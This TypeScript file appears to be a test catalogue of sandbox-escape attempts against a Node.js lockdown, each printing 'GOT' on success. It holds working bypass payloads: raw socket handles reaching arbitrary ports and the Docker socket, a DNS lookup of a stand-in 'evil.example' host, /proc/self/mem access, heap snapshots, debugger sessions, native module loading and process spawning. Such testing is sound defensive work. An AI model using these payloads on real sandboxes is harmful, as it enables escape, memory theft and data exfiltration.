/** One way around the lockdown, as the body of an async function. It prints `GOT` where it has what it came for. */
export interface Attack {
  readonly name: string;
  readonly code: string;
}

const attacks = (found: Readonly<Record<string, string>>): readonly Attack[] =>
  Object.entries(found).map(([name, code]) => ({ name, code }));

const OWN_HANDLE = `
  const server = net.createServer().listen(0, "127.0.0.1");
  await new Promise((done) => server.on("listening", done));
  server.unref();
  const handle = server._handle;`;
const REQUEST = `
  let request;
  Object.defineProperty(globalThis, "requestOf", { value: (handle) => ({ oncomplete() {} }) });`;

/** Ways to a socket that nobody let through. \`PORT\` is where they want to get. */
export const SOCKETS: readonly Attack[] = attacks({
  "net._createServerHandle's class": `
    const handle = net._createServerHandle("127.0.0.1", 0, 4);
    const TCP = handle.constructor; const own = new TCP(0);
    console.log("GOT", own.connect({ oncomplete() {} }, "127.0.0.1", PORT));`,
  "the class of a listening server's handle": `${OWN_HANDLE}
    const TCP = handle.constructor; new TCP(0); console.log("GOT");`,
  "the object below a listening server": `${OWN_HANDLE}${REQUEST}
    handle.connect(requestOf(handle), "127.0.0.1", PORT); console.log("GOT");`,
  "the object below a TLS socket that is connected to nothing": `
    const below = new tls.TLSSocket(undefined)._handle._parent;
    below.connect({ oncomplete() {} }, "127.0.0.1", PORT); console.log("GOT");`,
  "the IPv6 sibling of that": `
    const below = new tls.TLSSocket(undefined)._handle._parent;
    below.connect6({ oncomplete() {} }, "::ffff:127.0.0.1", PORT); console.log("GOT");`,
  "the wrap of TLS itself": `
    const wrap = new tls.TLSSocket(undefined)._handle;
    wrap.connect({ oncomplete() {} }, "127.0.0.1", PORT); console.log("GOT");`,
  "the object below a pipe": `
    const below = new tls.TLSSocket(undefined, { pipe: true })._handle._parent;
    below.connect({ oncomplete() {} }, "/var/run/docker.sock"); console.log("GOT");`,
  "the class below a pipe": `
    const Pipe = new tls.TLSSocket(undefined, { pipe: true })._handle._parent.constructor; new Pipe(0); console.log("GOT");`,
  "the class by way of the prototype": `
    const proto = Object.getPrototypeOf(new tls.TLSSocket(undefined)._handle._parent);
    Reflect.construct(proto.constructor, [0]); console.log("GOT");`,
  "another descriptor of the class": `
    const proto = Object.getPrototypeOf(new tls.TLSSocket(undefined)._handle._parent);
    Object.defineProperty(proto, "connect", { value() {} }); console.log("GOT");`,
  "a permit of a listed place, lent to another object": `
    const listed = net.connect(5432, "127.0.0.1"); listed.on("error", () => {});
    const below = new tls.TLSSocket(undefined)._handle._parent;
    listed._handle = below;
    below.connect({ oncomplete() {} }, "127.0.0.1", PORT); console.log("GOT");`,
  "a look-up of its own for a listed name": `
    net.connect({ host: "db.internal", port: PORT, lookup: (_n, o, done) => done(null, o.all ? [{ address: "127.0.0.1", family: 4 }] : "127.0.0.1", 4) })
      .on("error", (error) => console.log("LOCKDOWN_REFUSED", error.code)).on("connect", () => console.log("GOT"));
    await new Promise((done) => setTimeout(done, 300));`,
  "the callback of a listed look-up, caught by Object.prototype": `
    let caught; Object.defineProperty(Object.prototype, "callback", { set(value) { caught = value; } });
    console.log("GOT");`,
  "dgram._createSocketHandle": `
    const handle = dgram._createSocketHandle(null, null, "udp4"); console.log("GOT", handle.constructor.name);`,
  "a socket for datagrams from its module's class": `
    const socket = new dgram.Socket("udp4"); socket.on("error", () => {}); socket.connect(PORT, "127.0.0.1");
    socket.on("connect", () => console.log("GOT"));`,
  "a datagram socket's look-up of its own, for a listed name": `
    const socket = dgram.createSocket({ type: "udp4", lookup: (_name, _options, done) => done(null, "127.0.0.1", 4) });
    socket.on("error", (error) => console.log(error.code));
    socket.send("x", 8125, "collector.internal", (error) => { console.log(error ? error.code : "GOT"); socket.close(); });`,
  "the object below a datagram socket": `
    const socket = dgram.createSocket("udp4"); socket.unref();
    const { handle } = Object.getOwnPropertySymbols(socket).map((key) => socket[key]).find((state) => state?.handle);
    handle.bind("0.0.0.0", 0, 0);
    handle.send({ oncomplete() {} }, [Buffer.from("x")], 1, PORT, "127.0.0.1", false); console.log("GOT");`,
  "the class below a datagram socket": `
    const socket = dgram.createSocket("udp4"); socket.unref();
    const { handle } = Object.getOwnPropertySymbols(socket).map((key) => socket[key]).find((state) => state?.handle);
    new handle.constructor(); console.log("GOT");`,
  "net.BoundSocket, or whatever else a newer Node has": `
    if (!net.BoundSocket) throw { code: "LOCKDOWN_REFUSED", message: "not in this Node" };
    new net.BoundSocket({}); console.log("GOT");`,
  "process.binding of TCP": `process.binding("tcp_wrap"); console.log("GOT");`,
  "process.binding of async_wrap": `process.binding("async_wrap"); console.log("GOT");`,
  "process.binding of fs": `process.binding("fs"); console.log("GOT");`,
  "process.binding of contextify": `process.binding("contextify"); console.log("GOT");`,
  "process.binding with an object that changes its text": `
    let n = 0; process.binding({ toString: () => (n++ ? "tcp_wrap" : "constants") }); console.log("GOT");`,
  "process._linkedBinding": `process._linkedBinding("anything"); console.log("GOT");`,
  "the servers that names are asked of": `(await import("node:dns")).setServers(["127.0.0.1:" + PORT]); console.log("GOT");`,
  "the servers, by promise": `(await import("node:dns/promises")).setServers(["127.0.0.1:" + PORT]); console.log("GOT");`,
  "a name to ask, by promisify": `
    const { promisify } = await import("node:util");
    await promisify((await import("node:dns")).lookup)("secret.evil.example"); console.log("GOT");`,
});

/** Ways to what passes through the guard, and to the memory it is in. */
export const MEMORY: readonly Attack[] = attacks({
  "a channel made active by its prototype": `
    const probe = diagnostics.channel("mine"); probe.subscribe(() => {});
    const channel = diagnostics.channel("net.client.socket");
    Object.setPrototypeOf(channel, Object.getPrototypeOf(probe)); channel._subscribers = [() => console.log("GOT")]; channel._stores = new Map();
    console.log("GOT");`,
  "a channel that is renamed first": `
    const channel = diagnostics.channel("undici:client:connected"); channel.name = "mine"; channel.subscribe(() => {}); console.log("GOT");`,
  "a channel put in the place of another": `
    new diagnostics.Channel("undici:client:connected"); console.log("GOT");`,
  "the class of a channel, from a channel": `
    new (diagnostics.channel("mine").constructor)("undici:client:connected"); console.log("GOT");`,
  "a subclass of a channel": `
    new (class extends diagnostics.Channel {})("net.client.socket"); console.log("GOT");`,
  "a store bound to a channel": `
    diagnostics.channel("undici:request:create").bindStore(new AsyncLocalStorage(), () => {}); console.log("GOT");`,
  "a subscription by prototype, with a name of one's own": `
    const probe = diagnostics.channel("mine");
    Object.getPrototypeOf(probe).subscribe.call(diagnostics.channel("http.client.request.start"), () => {}); console.log("GOT");`,
  "a tracing channel": `diagnostics.tracingChannel("net.server.listen").subscribe({ start() {} }); console.log("GOT");`,
  "a tracing channel of channels": `
    const channel = diagnostics.channel("tracing:net.server.listen:start"); channel.subscribe(() => {}); console.log("GOT");`,
  "the channel of a module that comes later": `diagnostics.subscribe("quic.session.created", () => {}); console.log("GOT");`,
  "hooks of asynchronous work": `async_hooks.createHook({}).enable(); console.log("GOT");`,
  "the resource that is executed": `async_hooks.executionAsyncResource(); console.log("GOT");`,
  "a store that is handed every resource": `
    const store = new AsyncLocalStorage();
    const seen = []; store._propagate = (resource) => seen.push(resource);
    store.enterWith(1); setTimeout(() => {}, 1);
    await new Promise((done) => setTimeout(done, 20));
    if (seen.length > 0) console.log("GOT"); else console.log("LOCKDOWN_REFUSED nothing was handed on");`,
  "a store that is a proxy": `
    if (!AsyncLocalStorage.prototype._enable) throw { code: "LOCKDOWN_REFUSED", message: "not in this Node" };
    const store = new Proxy(new AsyncLocalStorage(), { get: (target, key) => (key === "_propagate" ? () => console.log("GOT") : target[key]) });
    AsyncLocalStorage.prototype._enable.call(store); setTimeout(() => {}, 1);`,
  "a store that writes where it likes": `
    if (!AsyncLocalStorage.prototype._enable) throw { code: "LOCKDOWN_REFUSED", message: "not in this Node" };
    const store = new AsyncLocalStorage(); store.kResourceStore = "onread"; store.enterWith(() => {}); console.log("GOT");`,
  "hooks of promises": `(await import("node:v8")).promiseHooks.onInit(() => {}); console.log("GOT");`,
  "a snapshot of the heap": `(await import("node:v8")).getHeapSnapshot(); console.log("GOT");`,
  "a snapshot of the heap in a file": `(await import("node:v8")).writeHeapSnapshot(); console.log("GOT");`,
  "flags of the engine": `(await import("node:v8")).setFlagsFromString("--allow-natives-syntax"); console.log("GOT");`,
  "two flags of the engine in one": `(await import("node:v8")).setFlagsFromString("--expose-gc --allow-natives-syntax"); console.log("GOT");`,
  "a debugger's session": `new (await import("node:inspector")).Session().connect(); console.log("GOT");`,
  "a debugger's session that promises": `new (await import("node:inspector/promises")).Session().connect(); console.log("GOT");`,
  "a debugger's session from its prototype": `
    const { Session } = await import("node:inspector"); Session.prototype.connect.call(new (class extends Session {})()); console.log("GOT");`,
  "inspector.open": `(await import("node:inspector")).open(0); console.log("GOT");`,
  "process._debugProcess": `process._debugProcess(process.pid); console.log("GOT");`,
  "the memory of the process as a file": `
    const file = fs.openSync("/proc/self/mem", "r+"); console.log("GOT", file);`,
  "the same by another path": `
    const file = fs.openSync("/proc/" + process.pid + "/task/" + process.pid + "/mem", "r"); console.log("GOT", file);`,
  "the same by a link": `
    const link = "mem-" + process.pid; fs.symlinkSync("/proc/self/mem", link);
    try { fs.openSync(link, "r"); console.log("GOT"); } finally { fs.unlinkSync(link); }`,
  "the same with a promise": `await fs.promises.open("/proc/self/mem", "r"); console.log("GOT");`,
  "the same as a stream": `
    fs.createReadStream("/proc/self/mem").on("error", (error) => console.log(error.code)).on("open", () => console.log("GOT"));
    await new Promise((done) => setTimeout(done, 200));`,
  "hooks on loading modules, in a thread": `module.register("data:text/javascript,"); console.log("GOT");`,
  "hooks on loading modules": `
    if (!module.registerHooks) throw { code: "LOCKDOWN_REFUSED", message: "not in this Node" };
    module.registerHooks({}); console.log("GOT");`,
  "machine code": `process.dlopen({ exports: {} }, "/nowhere/evil.node"); console.log("GOT");`,
  "machine code by require": `
    fs.writeFileSync("evil.node", ""); module.createRequire(import.meta.url)("./evil.node"); console.log("GOT");`,
  "machine code by SQLite": `
    const sqlite = process.getBuiltinModule?.("node:sqlite");
    if (!sqlite?.DatabaseSync.prototype.loadExtension) throw { code: "LOCKDOWN_REFUSED", message: "not in this Node" };
    new sqlite.DatabaseSync(":memory:", { allowExtension: true }).loadExtension("/nowhere/evil.so"); console.log("GOT");`,
});

/** What each of these does to a descriptor: \`file\` is its number, \`bytes\` what the attacker would have the service read. */
export const DESCRIPTORS: readonly Attack[] = attacks({
  "fs.writeSync": `fs.writeSync(file, bytes);`,
  "fs.writevSync": `fs.writevSync(file, [bytes]);`,
  "fs.write": `await new Promise((done, failed) => fs.write(file, bytes, (error) => (error ? failed(error) : done())));`,
  "fs.write, promised": `await promisify(fs.write)(file, bytes);`,
  "fs.writev": `await new Promise((done, failed) => fs.writev(file, [bytes], (error) => (error ? failed(error) : done())));`,
  "fs.writeFileSync": `fs.writeFileSync(file, bytes);`,
  "fs.writeFileSync of text": `fs.writeFileSync(file, String(bytes), "utf8");`,
  "fs.appendFileSync": `fs.appendFileSync(file, bytes);`,
  "fs.writeFile": `await new Promise((done, failed) => fs.writeFile(file, bytes, (error) => (error ? failed(error) : done())));`,
  "fs.appendFile": `await new Promise((done, failed) => fs.appendFile(file, bytes, (error) => (error ? failed(error) : done())));`,
  "a stream on the descriptor": `
    await new Promise((done, failed) => fs.createWriteStream(null, { fd: file, autoClose: false }).on("error", failed).end(bytes, done));`,
  "a WriteStream made by its class": `
    await new Promise((done, failed) => new fs.WriteStream(null, { fd: file, autoClose: false }).on("error", failed).end(bytes, done));`,
  "net.Socket": `new net.Socket({ fd: file, writable: true, readable: false }).on("error", () => {}).write(bytes);`,
  "the object below a socket, put on the descriptor": `
    const below = new tls.TLSSocket(undefined)._handle._parent; below.open(file);
    new net.Socket({ handle: below }).on("error", () => {}).write(bytes);`,
  "the object below a pipe, put on the descriptor": `
    const below = new tls.TLSSocket(undefined, { pipe: true })._handle._parent; below.open(file);
    new net.Socket({ handle: below }).on("error", () => {}).write(bytes);`,
  "a FileHandle that is led elsewhere": `
    const handle = await fs.promises.open("scratch-" + process.pid, "w");
    for (const key of Object.getOwnPropertySymbols(handle)) if (typeof handle[key] === "number" && String(key).includes("Fd")) handle[key] = file;
    try { await handle.write(bytes); } finally { await handle.close().catch(() => {}); }`,
  "a FileHandle with another number": `
    const handle = await fs.promises.open("scratch-" + process.pid, "w");
    try { Object.defineProperty(handle, "fd", { value: file }); await handle.write(bytes); } finally { await handle.close().catch(() => {}); }`,
  "a FileHandle of one's own making": `
    const handle = await fs.promises.open("scratch-" + process.pid, "w");
    const fake = Object.create(Object.getPrototypeOf(handle), { ...Object.getOwnPropertyDescriptors(handle), fd: { value: file } });
    try { await fake.write(bytes); } finally { await handle.close().catch(() => {}); }`,
  "the same, given to fs.promises.writeFile": `
    const handle = await fs.promises.open("scratch-" + process.pid, "w");
    const fake = Object.create(Object.getPrototypeOf(handle), { ...Object.getOwnPropertyDescriptors(handle), fd: { value: file } });
    try { await fs.promises.writeFile(fake, bytes); } finally { await handle.close().catch(() => {}); }`,
  "the class below a FileHandle": `
    const handle = await fs.promises.open("scratch-" + process.pid, "w");
    try {
      for (const key of Object.getOwnPropertySymbols(handle)) {
        const below = handle[key];
        if (below && typeof below === "object" && "releaseFD" in below)
          await new handle.constructor(new below.constructor(file)).write(bytes);
      }
    } finally { await handle.close().catch(() => {}); }`,
  "the number of a file that was closed": `
    const own = fs.openSync("scratch-" + process.pid, "w"); fs.closeSync(own);
    if (own === file) fs.writeSync(own, bytes); else fs.writeSync(file, bytes);`,
  "WebAssembly, as its standard output": `
    const { WASI } = await import("node:wasi");
    const wasi = new WASI({ version: "preview1", stdout: file });
    const text = (value) => [value.length, ...Buffer.from(value)];
    const section = (id, ...content) => [id, content.length, ...content];
    const code = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0,
      ...section(1, 2, 0x60, 4, 0x7f, 0x7f, 0x7f, 0x7f, 1, 0x7f, 0x60, 0, 0),
      ...section(2, 1, ...text("wasi_snapshot_preview1"), ...text("fd_write"), 0, 0),
      ...section(3, 1, 1), ...section(5, 1, 0, 1),
      ...section(7, 2, ...text("memory"), 2, 0, ...text("_start"), 0, 1),
      ...section(10, 1, 13, 0, 0x41, 1, 0x41, 0, 0x41, 1, 0x41, 8, 0x10, 0, 0x1a, 0x0b),
      ...section(11, 1, 0, 0x41, 0, 0x0b, 8 + bytes.length, 8 + 4, 0, 0, 0, bytes.length, 0, 0, 0).slice(0, 0)]);
    const { instance } = await WebAssembly.instantiate(code, wasi.getImportObject());
    const view = new DataView(instance.exports.memory.buffer);
    view.setUint32(0, 16, true); view.setUint32(4, bytes.length, true);
    new Uint8Array(instance.exports.memory.buffer).set(bytes, 16);
    wasi.start(instance);`,
});

/** Ways to take from a descriptor, or to put another file behind its number. */
export const TAKING: readonly Attack[] = attacks({
  "fs.readSync": `if (fs.readSync(file, Buffer.alloc(1)) > 0) console.log("GOT");`,
  "fs.closeSync": `fs.closeSync(file); console.log("GOT");`,
  "fs.close": `await new Promise((done, failed) => fs.close(file, (error) => { if (!error) console.log("GOT"); error ? failed(error) : done(); }));`,
  "fs.ftruncateSync": `fs.ftruncateSync(file, 0); console.log("GOT");`,
  "fs.fchmodSync": `fs.fchmodSync(file, 0o777); console.log("GOT");`,
});

/** Ways to a process or a thread, which nothing here holds: they are refused where that is asked for. */
export const CHILDREN: readonly Attack[] = attacks({
  "the object below a ChildProcess": `
    const { ChildProcess } = await import("node:child_process");
    const status = new ChildProcess()._handle.spawn({ file: "/bin/true", args: ["true"] }); console.log("GOT", status);`,
  "the class below a ChildProcess": `
    const { ChildProcess } = await import("node:child_process");
    new (new ChildProcess()._handle.constructor)(); console.log("GOT");`,
  "ChildProcess.spawn": `
    const { ChildProcess } = await import("node:child_process");
    new ChildProcess().spawn({ file: "/bin/true", args: ["true"] }); console.log("GOT");`,
  "child_process.exec, promised": `
    const { exec } = await import("node:child_process");
    await promisify(exec)("true"); console.log("GOT");`,
  "a cluster": `(await import("node:cluster")).default.fork(); console.log("GOT");`,
  "another program in the place of this one": `
    if (!process.execve) throw { code: "LOCKDOWN_REFUSED", message: "not in this Node" };
    process.execve("/bin/echo", ["echo", "GOT"]);`,
  "a thread by way of its class": `
    const { Worker } = await import("node:worker_threads");
    new (Worker.prototype.constructor)("console.log('GOT')", { eval: true });`,
  "a subclass of a thread": `
    const { Worker } = await import("node:worker_threads");
    new (class extends Worker {})("console.log('GOT')", { eval: true });`,
});

/** What every program begins with. */
export const IMPORTS = `
  import async_hooks, { AsyncLocalStorage } from "node:async_hooks";
  import diagnostics from "node:diagnostics_channel";
  import dgram from "node:dgram";
  import fs from "node:fs";
  import module from "node:module";
  import net from "node:net";
  import tls from "node:tls";
  import { promisify } from "node:util";
  process.on("uncaughtException", (error) => console.log(error.code, error.message));`;
